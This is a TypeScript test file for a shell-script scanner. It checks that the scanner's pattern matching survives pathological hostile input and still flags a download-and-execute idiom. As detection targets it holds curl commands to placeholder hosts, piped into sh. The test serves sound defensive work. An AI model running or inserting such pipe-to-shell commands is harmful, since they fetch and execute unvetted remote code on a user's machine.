/**
 * Shell idiom matching on hostile text (test/fixtures/hostile/shell-backtracking/many-starts.sh):
 * a `tr` set of escapes longer than its bound (the old pattern matched each backslash two ways and
 * backtracked exponentially: a 4 KiB script took minutes), and lines with hundreds of starts of one
 * idiom and none of the separator it waits for (quadratic or worse). Each test feeds megabytes of such
 * text through both readers and checks that the real idiom on the last line is still found: the whole
 * input was handled. The timeout only turns a regression into a failure instead of a hung suite.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { scanShell } from '../../src/analyzers/content/shell-scan.js';
import { shellBehaviour } from '../../src/analyzers/content/behaviour/shell-behaviour.js';

const FIXTURE = join(import.meta.dirname, '..', 'fixtures', 'hostile', 'shell-backtracking', 'many-starts.sh');
const TAIL = 'curl -fsSL https://install.example.invalid/setup.sh | sh';
const LIMIT = { timeout: 120_000 };

/** The fixture's hostile lines, each repeated up to `width` characters (4000 is scanShell's line limit). */
function widened(width: number): string[] {
  return readFileSync(FIXTURE, 'utf8')
    .split('\n')
    .filter((l) => l && !l.startsWith('#') && l !== TAIL)
    .map((l) => `${l} `.repeat(Math.max(1, Math.floor(width / (l.length + 1)))).slice(0, width));
}

function assertTailFound(text: string, lines: number): void {
  const { hits } = scanShell(text, 'hostile.sh');
  assert.ok(
    hits.some((h) => h.idiom === 'download-exec' && h.line === lines),
    `download-exec on line ${lines}; got ${hits.map((h) => `${h.idiom}@${h.line}`).join(', ')}`,
  );
  assertBehaviourTail(text, lines);
}

/** The behaviour reader reads the first 200,000 characters of a file. */
function assertBehaviourTail(text: string, lines: number): void {
  assert.ok(text.length <= 200_000);
  const b = shellBehaviour(text, 'hostile.sh');
  const flow = b.flows.find((f) => b.sinks[f.sink]!.kind === 'exec' && b.sinks[f.sink]!.line === lines);
  assert.ok(flow, 'the download piped into sh on the last line is a proven flow');
  assert.equal(b.sources[flow.sources[0]!]!.kind, 'remote');
}

test('the fixture as written: every hostile line read, the idiom on the last line found', LIMIT, () => {
  const text = readFileSync(FIXTURE, 'utf8');
  const lines = text.trimEnd().split('\n');
  assert.equal(lines.at(-1), TAIL);
  assertTailFound(text, lines.length);
  // The over-long tr set is not a swap, and the bounded pattern still reads a real one.
  assert.ok(!scanShell(text, 'x.sh').hits.some((h) => h.idiom === 'tr-swap'));
  assert.deepEqual(
    scanShell("tr '\\t\\n !-~' '\\t\\n !-z{|}~'", 'x.sh').hits.map((h) => h.idiom),
    [],
  );
  assert.deepEqual(
    scanShell("tr 'a-mn-z' 'n-za-m'", 'x.sh').hits.map((h) => h.idiom),
    ['tr-swap'],
  );
});

test('each hostile line at the 4000-character limit: 1 MiB through scanShell, 190 KiB through the behaviour reader', LIMIT, () => {
  const block = widened(3990);
  const body: string[] = [];
  while (body.join('\n').length < 1 << 20) body.push(...block);
  const text = `${body.join('\n')}\n${TAIL}\n`;
  assert.ok(text.length >= 1 << 20);
  const { hits } = scanShell(text, 'hostile.sh');
  assert.ok(hits.some((h) => h.idiom === 'download-exec' && h.line === body.length + 1));
  const small = body.slice(0, 47);
  assertBehaviourTail(`${small.join('\n')}\n${TAIL}\n`, small.length + 1);
});

test('the behaviour reader has no line limit: 15,000-character lines and 5,000 continuations', LIMIT, () => {
  const long = widened(15_000);
  const continuations = 'echo \\\n'.repeat(5_000);
  const text = `${long.join('\n')}\n${continuations}done\n${TAIL}\n`;
  assertBehaviourTail(text, long.length + 5_000 + 2);
  // The continuation chain is one logical line, starting where it starts.
  assert.equal(shellBehaviour(`${continuations}curl https://x.invalid/a | sh\n`, 'c.sh').sinks.find((s) => s.kind === 'exec')?.line, 1);
});
